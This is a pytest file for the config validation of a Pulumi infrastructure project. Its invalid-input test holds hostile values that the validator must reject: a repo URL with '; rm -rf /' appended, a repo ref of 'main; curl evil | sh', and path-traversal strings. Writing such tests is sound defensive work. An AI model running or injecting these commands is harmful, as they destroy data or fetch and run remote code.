"""Config validation and pure helpers, in-process (no Pulumi runtime needed)."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest

from infra_pulumi.compute import render_user_data
from infra_pulumi.config import InfraConfig, check_known_keys, parse_port_range
from infra_pulumi.iam import host_policy_document
from infra_pulumi.registry import keep_last_policy

pytestmark = pytest.mark.infra

VALID: dict[str, Any] = {
    "owner": "alice",
    "region": "eu-west-1",
    "allowed_cidrs": ("203.0.113.10/32",),
    "repo_url": "https://github.com/example-org/healthpredict.git",
}


def test_defaults_are_the_documented_safe_ones() -> None:
    cfg = InfraConfig(**VALID)
    assert cfg.instance_type == "t3.xlarge" and cfg.root_volume_gb == 60
    assert cfg.ssh_cidrs == () and cfg.allow_unsafe_ingress is False and cfg.force_destroy is False
    assert cfg.ecr_keep_last == 20 and cfg.noncurrent_version_days == 30
    assert (cfg.mlflow_port, cfg.prefect_port, cfg.api_ports) == (5000, 4200, (8000, 8000))
    assert cfg.subnet_cidrs == ("10.42.0.0/20", "10.42.16.0/20")
    with pytest.raises(AttributeError):
        cfg.owner = "mallory"  # type: ignore[misc]


@pytest.mark.parametrize(
    ("override", "message"),
    [
        ({"owner": ""}, "healthpredict:owner is required"),
        ({"region": ""}, "aws:region is required"),
        ({"allowed_cidrs": ()}, "healthpredict:allowedCidrs is required"),
        (
            {"allowed_cidrs": ("10.0.0.1/24",)},
            "healthpredict:allowedCidrs: '10.0.0.1/24' is not a valid CIDR",
        ),
        ({"allowed_cidrs": ("everyone",)}, "healthpredict:allowedCidrs: 'everyone'"),
        ({"allowed_cidrs": ("0.0.0.0/0",)}, "healthpredict:allowedCidrs contains 0.0.0.0/0"),
        ({"ssh_cidrs": ("::/0",), "allow_unsafe_ingress": True}, "healthpredict:sshCidrs contains ::/0"),
        ({"ssh_cidrs": ("300.1.1.1/32",)}, "healthpredict:sshCidrs: '300.1.1.1/32'"),
        ({"vpc_cidr": "10.0.0.0/8"}, "healthpredict:vpcCidr"),
        ({"az_count": 0}, "healthpredict:azCount"),
        ({"instance_type": "t4g.xlarge"}, "arm64"),
        ({"instance_type": "huge"}, "healthpredict:instanceType"),
        ({"root_volume_gb": 8}, "healthpredict:rootVolumeGb"),
        ({"kms_key_arn": "alias/mine"}, "healthpredict:kmsKeyArn"),
        ({"ecr_keep_last": 0}, "healthpredict:ecrKeepLast"),
        ({"noncurrent_version_days": 0}, "healthpredict:noncurrentVersionDays"),
        ({"repo_url": ""}, "healthpredict:repoUrl is required"),
        ({"repo_url": "file:///home/me/healthpredict"}, "healthpredict:repoUrl"),
        ({"repo_url": "https://github.com/x/y.git; rm -rf /"}, "healthpredict:repoUrl"),
        ({"repo_ref": "main; curl evil | sh"}, "healthpredict:repoRef"),
        ({"repo_ref": "../../etc"}, "healthpredict:repoRef"),
        ({"mlflow_port": 70000}, "healthpredict:mlflowPort"),
        ({"compose_file": "../compose.yaml"}, "healthpredict:composeFile"),
        ({"compose_file": "/etc/compose.yaml"}, "healthpredict:composeFile"),
    ],
)
def test_invalid_or_unsafe_config_is_refused_naming_the_key(override: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError) as info:
        InfraConfig(**{**VALID, **override})
    assert message in str(info.value)


def test_unsafe_override_allows_world_services_but_not_ssh() -> None:
    cfg = InfraConfig(**{**VALID, "allowed_cidrs": ("0.0.0.0/0", "::/0"), "allow_unsafe_ingress": True})
    assert cfg.ipv4_allowed == ("0.0.0.0/0",) and cfg.ipv6_allowed == ("::/0",)
    with pytest.raises(ValueError, match="refused even with allowUnsafeIngress=true"):
        replace(cfg, ssh_cidrs=("0.0.0.0/0",))


@pytest.mark.parametrize(("raw", "expected"), [("8000", (8000, 8000)), ("30000-32767", (30000, 32767))])
def test_port_ranges_parse(raw: str, expected: tuple[int, int]) -> None:
    assert parse_port_range("apiPorts", raw) == expected


@pytest.mark.parametrize("raw", ["", "http", "9000-8000", "0", "1-70000"])
def test_bad_port_ranges_are_refused(raw: str) -> None:
    with pytest.raises(ValueError, match="healthpredict:apiPorts"):
        parse_port_range("apiPorts", raw)


def test_user_data_quotes_interpolated_values() -> None:
    script = render_user_data(
        repo_url="https://github.com/example-org/healthpredict.git",
        repo_ref="release/1.0",
        bucket_name="bucket with space",
        ecr_repository_url="1.dkr.ecr.eu-west-1.amazonaws.com/repo",
        region="eu-west-1",
    )
    assert "export HEALTHPREDICT_BUCKET='bucket with space'" in script
    assert "HEALTHPREDICT_ARTIFACT_URI='s3://bucket with space/healthpredict'" in script
    assert "fetch --tags origin release/1.0" in script


def test_policy_helpers_produce_expected_documents() -> None:
    doc = json.loads(host_policy_document("arn:aws:s3:::b", "arn:aws:ecr:r:1:repository/x"))
    star = [s for s in doc["Statement"] if s["Resource"] == "*"]
    assert [s["Action"] for s in star] == [["ecr:GetAuthorizationToken"]]
    assert not any(s["Action"][0].startswith("kms:") for s in doc["Statement"])
    rule = json.loads(keep_last_policy(7))["rules"][0]
    assert rule["selection"]["countNumber"] == 7 and rule["action"]["type"] == "expire"


def test_known_keys_pass_and_other_namespaces_are_ignored() -> None:
    check_known_keys({"healthpredict:owner", "healthpredict:apiPorts", "aws:region", "aws:profile"})
    with pytest.raises(ValueError, match=r"unknown config key healthpredict:sshCidr .*did you mean"):
        check_known_keys({"healthpredict:sshCidr"})
